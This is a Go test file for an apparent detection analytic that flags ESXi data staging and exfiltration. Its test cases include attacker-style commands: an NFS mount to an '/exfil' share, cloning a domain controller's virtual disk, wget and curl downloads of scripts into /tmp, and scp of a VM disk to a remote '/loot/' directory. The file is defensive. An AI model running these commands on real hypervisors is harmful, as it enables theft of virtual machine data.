package analytic

import (
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

func TestEsxiCommands(t *testing.T) {
	paths := []string{"/vmfs/volumes/", "/tmp/", "/scratch/"}
	tests := []struct {
		cmd  string
		want []esxiAct
	}{
		{"esxcli storage nfs add -H 10.9.9.9 -s /exfil -v stage", []esxiAct{{cat: catMount, share: "10.9.9.9:/exfil", store: "/vmfs/volumes/stage"}}},
		{"esxcli --server=vc storage nfs41 add --hosts=10.1.1.1,10.1.1.2 --share=/e --volume-name=s41", []esxiAct{{cat: catMount, share: "10.1.1.1,10.1.1.2:/e", store: "/vmfs/volumes/s41"}}},
		{"esxcli storage nfs list", nil},
		{"esxcfg-nas -a stage -o 10.9.9.9 -s /exfil", []esxiAct{{cat: catMount, share: "10.9.9.9:/exfil", store: "/vmfs/volumes/stage"}}},
		{"esxcfg-nas -l", nil},
		{"vim-cmd vmsvc/snapshot.create 12 exf", []esxiAct{{cat: catSnapshot, vm: "12"}}},
		{"for id in 1 2; do vim-cmd vmsvc/snapshot.create $id x; done", []esxiAct{{cat: catSnapshot, vm: "$id"}}},
		{"vim-cmd vmsvc/getallvms", nil},
		{"vmkfstools -i /vmfs/volumes/ds1/dc01/dc01.vmdk /vmfs/volumes/stage/dc01.vmdk -d thin", []esxiAct{{cat: catClone, vm: "/vmfs/volumes/ds1/dc01/dc01.vmdk", store: "/vmfs/volumes/stage/dc01.vmdk"}}},
		{"cd /vmfs/volumes/ds1/dc01 && vmkfstools --clonevirtualdisk dc01.vmdk -d thin /tmp/x.vmdk", []esxiAct{{cat: catClone, vm: "/vmfs/volumes/ds1/dc01/dc01.vmdk", store: "/tmp/x.vmdk"}}},
		{"vmkfstools -X 20G disk.vmdk", nil},
		{"cd /tmp; wget http://x/a.sh -O a.sh", []esxiAct{{cat: catTransfer, store: "/tmp/a.sh"}}},
		{"wget http://x/a.sh -O /root/a.sh", nil},
		{"curl -so /scratch/a http://x/a", []esxiAct{{cat: catTransfer, store: "/scratch/a"}}},
		{"scp root@10.0.0.9:/data/x.tgz /vmfs/volumes/ds1/", []esxiAct{{cat: catTransfer, store: "/vmfs/volumes/ds1/"}}},
		{"scp /vmfs/volumes/ds1/fs01/fs01-flat.vmdk root@10.0.0.9:/loot/", []esxiAct{{cat: catTransfer, store: "root@10.0.0.9:/loot/"}}},
		{"cp /vmfs/volumes/ds1/fs01/fs01-flat.vmdk /vmfs/volumes/stage/", []esxiAct{{cat: catTransfer, store: "/vmfs/volumes/stage/"}}},
		{"cp /etc/hosts /tmp/", nil},
		{"tar czf /tmp/dc.tgz /vmfs/volumes/ds1/dc01/dc01.vmdk", []esxiAct{{cat: catTransfer, store: "/tmp/dc.tgz"}}},
		{"tar czf /tmp/logs.tgz /var/log", nil},
		{"dd if=/vmfs/volumes/ds1/a-flat.vmdk of=/vmfs/volumes/stage/a.raw bs=1M", []esxiAct{{cat: catTransfer, store: "/vmfs/volumes/stage/a.raw"}}},
	}
	for _, tc := range tests {
		got := esxiCommands(tc.cmd, paths)
		for i := range got {
			got[i].detail = ""
		}
		if diff := cmp.Diff(tc.want, got, cmp.AllowUnexported(esxiAct{})); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tc.cmd, diff)
		}
	}
}

func TestMaintenance(t *testing.T) {
	d, err := NewEsxiDatastoreStaging(EsxiDatastoreStagingParams{
		SnapshotFrequency: time.Hour, VMFSWriteRate: 1,
		Maintenance: List{"Sat 01:00-05:00", "daily 23:00-00:30"},
	}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for at, want := range map[string]bool{
		"2025-03-15T01:00:00Z": true,  // Saturday
		"2025-03-15T05:00:00Z": false, // end is exclusive
		"2025-03-16T02:00:00Z": false, // Sunday
		"2025-03-18T23:30:00Z": true,  // daily, before midnight
		"2025-03-19T00:10:00Z": true,  // daily, after midnight
		"2025-03-19T00:30:00Z": false,
	} {
		ts, _ := time.Parse(time.RFC3339, at)
		if got := d.inMaintenance(ts); got != want {
			t.Errorf("inMaintenance(%s) = %v, want %v", at, got, want)
		}
	}
	for _, bad := range []string{"Sat", "Someday 01:00-02:00", "Sat 1-2", "Sat 25:00-26:00"} {
		if _, err := parseMaintenance(bad); err == nil {
			t.Errorf("parseMaintenance(%q) accepted", bad)
		}
	}
}

// FuzzEsxiCommands checks that any command line parses without panicking.
func FuzzEsxiCommands(f *testing.F) {
	f.Add("esxcli storage nfs add -H 10.9.9.9 -s /exfil -v stage")
	f.Add("cd /tmp && tar cf")
	f.Add("vmkfstools -i")
	f.Add("esxcfg-nas -a")
	f.Fuzz(func(t *testing.T, s string) {
		for _, a := range esxiCommands(s, []string{"/tmp/"}) {
			if a.cat >= numCats {
				t.Fatalf("bad category %d", a.cat)
			}
		}
	})
}
